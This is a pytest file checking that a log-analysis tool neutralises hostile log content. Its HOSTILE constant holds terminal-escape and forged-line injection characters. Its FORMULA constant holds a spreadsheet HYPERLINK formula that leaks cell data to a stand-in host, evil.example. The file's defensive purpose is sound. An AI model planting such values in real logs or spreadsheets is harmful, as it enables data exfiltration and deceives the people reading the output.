"""What the tool shows a person cannot be driven by whoever wrote the log (issue #15 items
3 and 4): no terminal escapes reach the screen, no forged lines, and no CSV cell runs as a
spreadsheet formula."""

from __future__ import annotations

import csv
import io

import pandas as pd
import pytest

from analyzer.alerts import Alert
from analyzer.cli import main
from analyzer.cli.analysis import _print_alerts
from analyzer.logger import AuditLogger

HOSTILE = "eve\x1b[2J\x1b[H\nALL CLEAR\u202e"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"details")'


def _assert_inert(text: str) -> None:
    assert "\x1b" not in text and "\u202e" not in text
    assert not any(line.startswith("ALL CLEAR") for line in text.splitlines())
    assert "eve\\x1b[2J\\x1b[H\\nALL CLEAR\\u202e" in text


@pytest.fixture
def hostile_log(tmp_path):
    path = tmp_path / "audit.jsonl"
    with AuditLogger(path) as audit:
        for day in range(1, 4):
            for hour in range(9, 17):
                for user in ("alice", "bob", HOSTILE, FORMULA):
                    audit.log("dataset.read", user=user, outcome="success",
                              source_ip="10.0.0.7", resource="datasets/a",
                              timestamp=f"2026-03-0{day}T{hour:02d}:05:00Z")
    return path


def test_log_echoes_a_hostile_action_escaped(tmp_path, capsys):
    assert main(["log", "--action", HOSTILE, "--log", str(tmp_path / "a.jsonl")]) == 0
    _assert_inert(capsys.readouterr().out)


def test_query_table_and_sql_table_escape_values(hostile_log, capsys):
    assert main(["query", str(hostile_log), "--format", "table", "--limit", "5"]) == 0
    _assert_inert(capsys.readouterr().out)
    pytest.importorskip("duckdb", reason="--sql needs the [sql] extra")
    assert main(["query", str(hostile_log), "--format", "table", "--sql",
                 "SELECT DISTINCT user FROM events ORDER BY user"]) == 0
    _assert_inert(capsys.readouterr().out)


def test_the_alert_list_score_prints_escapes_entities_and_reasons(capsys):
    start = pd.Timestamp("2026-03-01T10:00Z")
    alert = Alert("a1", "user", HOSTILE, start, start + pd.Timedelta(hours=1), 0.99, 80.0,
                  (f"first access to {HOSTILE}",), {}, {})
    _print_alerts([alert], 10)
    _assert_inert(capsys.readouterr().out)


def test_query_csv_and_the_scores_file_neutralise_formulas(hostile_log, tmp_path, capsys):
    assert main(["query", str(hostile_log), "--format", "csv", "--user", FORMULA]) == 0
    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    assert rows and {r["user"] for r in rows} == {"'" + FORMULA}
    assert main(["query", str(hostile_log), "--format", "csv", "--user", FORMULA,
                 "--raw-csv"]) == 0
    assert {r["user"] for r in csv.DictReader(io.StringIO(capsys.readouterr().out))} == \
        {FORMULA}
    scores = tmp_path / "scores.csv"
    assert main(["score", str(hostile_log), "--no-write-back", "--scores", str(scores)]) == 0
    frame = pd.read_csv(scores)
    entities = set(frame["entity"])
    assert "'" + FORMULA in entities and FORMULA not in entities
    assert not frame["score"].astype(str).str.startswith("'").any()  # numbers stay numbers
